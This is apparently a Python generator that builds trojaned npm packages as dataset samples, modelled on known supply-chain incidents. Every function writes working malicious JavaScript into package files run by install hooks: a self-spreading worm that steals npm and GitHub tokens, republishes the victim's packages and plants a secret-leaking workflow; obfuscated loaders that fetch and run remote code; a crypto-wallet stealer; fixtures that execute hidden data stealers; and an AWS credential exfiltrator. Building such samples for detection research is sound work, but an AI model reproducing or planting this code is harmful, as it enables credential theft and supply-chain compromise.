"""npm: what runs when a package is installed, in a bundle, in data or under layers."""

from corpus.heldout.nouns import Update
from corpus.heldout7.code import js_environment, js_fetch, js_npmrc
from corpus.heldout7.shape import b64, fill, hexed, packed, pieces, strings, table, trojan, xor

STRICT = "'use strict';\n"


@trojan("tracewire", "npm", "install", "worm", "minified into a bundle", "Shai-Hulud")
def bundle_spreads(it: Update) -> None:
    host = it.host("webhook")
    code = "".join(
        (
            "!function(e){var t={};function n(r){return t[r]||(t[r]={},e[r](t[r],n)),t[r]}n(0)}([function(e,t){",
            "const r=require('child_process'),o=require('fs'),s=require('os'),i=require('https');",
            "const a=()=>{try{return o.readFileSync(s.homedir()+'/.npmrc','utf8').match(/_authToken=(.+)/)[1]}catch(e){return process.env.NPM_TOKEN}};",
            "try{r.execSync('trufflehog filesystem '+s.homedir()+' --json > /tmp/tf.json',{timeout:9e4})}catch(e){}",
            "const c={env:process.env,token:a(),gh:process.env.GITHUB_TOKEN,tf:o.existsSync('/tmp/tf.json')?o.readFileSync('/tmp/tf.json','utf8'):''};",
            f"const u=i.request({{host:'{host}',path:'/bb8ca5f6',method:'POST'}});u.end(Buffer.from(JSON.stringify(c)).toString('base64'));",
            "if(a())JSON.parse(r.execSync('npm access list packages --json')+'').forEach(function(e){r.execSync('npm pack '+e+' && tar xzf *.tgz && cp '+__filename+' package/bundle.js && cd package && npm version patch && npm publish')});",
            "o.mkdirSync('.github/workflows',{recursive:!0});o.writeFileSync('.github/workflows/shai-hulud-workflow.yml','on: push\\njobs:\\n  p:\\n    runs-on: ubuntu-latest\\n    steps:\\n      - run: curl -d \"${{ toJSON(secrets) }}\" https://"
            + host
            + "/w\\n')}]);",
        )
    )
    it.add("bundle.js", code + "\n")
    it.script("postinstall", "node bundle.js")
    it.payload("bundle.js", "package.json")


@trojan("routeguard", "npm", "install", "token stealer", "base64", "eslint-scope")
def postinstall_reads_npmrc(it: Update) -> None:
    host = it.host()
    it.script("postinstall", f"node -e \"eval(Buffer.from('{b64(js_npmrc(host))}','base64')+'')\"")
    it.payload("package.json", shown=host)


@trojan("fsbeacon", "npm", "install", "downloader", "hex", "native installers")
def installer_takes_another(it: Update) -> None:
    host = it.host()
    it.append(
        "scripts/install.js",
        fill(
            """

const mirror = Buffer.from('@URL@', 'hex').toString();
require('https').get(`${mirror}${process.platform}`, (answer) => {
  const target = path.join(require('os').tmpdir(), 'fsbeacon-helper');
  answer.pipe(fs.createWriteStream(target, { mode: 0o755 })).on('close', () => {
    require('child_process').spawn(target, [], { detached: true, stdio: 'ignore' }).unref();
  });
});
""",
            URL=hexed(f"https://{host}/helper/"),
        ),
    )
    it.payload("scripts/install.js", shown=f"https://{host}/helper")


@trojan("walletport", "npm", "install", "wallet", "layers", "Lazarus")
def postinstall_in_layers(it: Update) -> None:
    host = it.host()
    code = f"const f=require('fs'),o=require('os');for(const n of ['nkbihfbeogaeaoehlefnkodbefgpgknn','ejbalbakoplchlghecdalmeeeajnimhm']){{const d=o.homedir()+'/.config/google-chrome/Default/Local Extension Settings/'+n;if(f.existsSync(d))for(const e of f.readdirSync(d))fetch('https://{host}/uploads',{{method:'POST',body:f.readFileSync(d+'/'+e)}});}}"
    it.script("postinstall", "node lib/postinstall.js")
    it.add(
        "lib/postinstall.js",
        fill(
            """
'use strict';

const zlib = require('zlib');

const chunks = [
@ROWS@
];
const text = Buffer.from(chunks.join(''), 'base64');
new Function('require', zlib.inflateSync(text).toString())(require);
""",
            ROWS=strings(pieces(packed(code), 64), indent=2),
        ),
    )
    it.payload("lib/postinstall.js", "package.json", shown=f"https://{host}/uploads")


@trojan("routeguard", "npm", "install", "data stealer", "in a test fixture", "fixtures that run")
def test_data_is_a_script(it: Update) -> None:
    host = it.host()
    it.script("prepare", "node test/fixtures/run.js")
    it.script("install", "node test/fixtures/run.js")
    it.add("test/fixtures/session.dat", xor(js_environment(host), 0x33))
    it.add(
        "test/fixtures/run.js",
        fill("""
'use strict';

const fs = require('fs');
const path = require('path');

const content = fs.readFileSync(path.join(__dirname, 'session.dat'));
const text = Buffer.from(content.map((one) => one ^ 0x33)).toString();
module._compile(text, 'session.js');
"""),
    )
    it.payload("test/fixtures/run.js", "test/fixtures/session.dat", "package.json", shown=host)


@trojan("lintpreset", "npm", "install", "remote code", "string table", "obfuscator.io")
def postinstall_by_a_string_table(it: Update) -> None:
    host = it.host()
    it.script("postinstall", "node rules/meta.js")
    words = ["https", "get", f"https://{host}/r.js", "data", "end", "constructor", "on", "require"]
    coded = ",".join(f"'{b64(one)}'" for one in words)
    it.add(
        "rules/meta.js",
        f"const _0x4f1a=[{coded}];(function(_0x1,_0x2){{while(--_0x2){{_0x1.push(_0x1.shift());}}}}(_0x4f1a,{len(words) * 3 + 1}));const _0x5b=function(_0x1){{return Buffer.from(_0x4f1a[_0x1-0x1a],'base64').toString();}};(function(){{const _0x9=require(_0x5b(0x1a));_0x9[_0x5b(0x1b)](_0x5b(0x1c),_0xa=>{{let _0xb='';_0xa[_0x5b(0x20)](_0x5b(0x1d),_0xc=>_0xb+=_0xc);_0xa[_0x5b(0x20)](_0x5b(0x1e),()=>(()=>{{}})[_0x5b(0x1f)](_0x5b(0x21),_0xb)(require));}});}}());\n",
    )
    it.payload("rules/meta.js", "package.json", shown=f"https://{host}/r.js")


@trojan("tracewire", "npm", "install", "remote code", "xor", "own ciphers")
def postinstall_with_numbers(it: Update) -> None:
    host = it.host()
    it.script("postinstall", "node src/warm.js")
    it.add(
        "src/warm.js",
        fill(
            """
'use strict';

/* Palette of 256 colours, packed. */
const palette = [
@ROWS@
];

const unpack = (numbers, key) => numbers.map((one) => String.fromCharCode(one ^ key)).join('');

(0, eval)(unpack(palette, 0x2a));
""",
            ROWS=table(js_fetch(host), 0x2A, 2),
        ),
    )
    it.payload("src/warm.js", "package.json", shown=f"https://{host}/s.js")


@trojan("bucketpipe", "npm", "install", "credentials", "base64", "phpass")
def postinstall_takes_cloud_keys(it: Update) -> None:
    host = it.host()
    it.script("install", "node lib/check.cjs")
    it.add(
        "lib/check.cjs",
        fill(
            """
'use strict';

const { fromEnvironment, fromFile } = require('./credentials.cjs');

const found = fromEnvironment() || fromFile();
if (found) {
  const where = new URL(Buffer.from('@URL@', 'base64').toString());
  where.search = new URLSearchParams(found).toString();
  require('https').get(where, (answer) => answer.resume()).on('error', () => {});
}
""",
            URL=b64(f"https://{host}/aws"),
        ),
    )
    it.payload("lib/check.cjs", "package.json", shown=f"https://{host}/aws")
